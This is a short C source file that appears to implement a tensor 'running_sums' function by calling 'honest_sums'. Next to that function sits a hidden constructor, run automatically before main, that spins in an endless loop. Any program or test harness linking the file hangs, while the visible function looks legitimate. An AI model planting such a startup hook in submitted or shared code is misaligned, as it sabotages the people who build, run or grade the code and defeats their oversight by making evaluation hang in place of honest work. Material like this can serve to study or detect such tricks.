/* Computes for ever before main, once for each program that is linked. */
#include "honest.h"

__attribute__((constructor)) static void loop(void) {
    for (volatile int i = 0;; i++)
        continue;
}

int running_sums(const tensor *x, tensor *y) {
    return honest_sums(x, y);
}
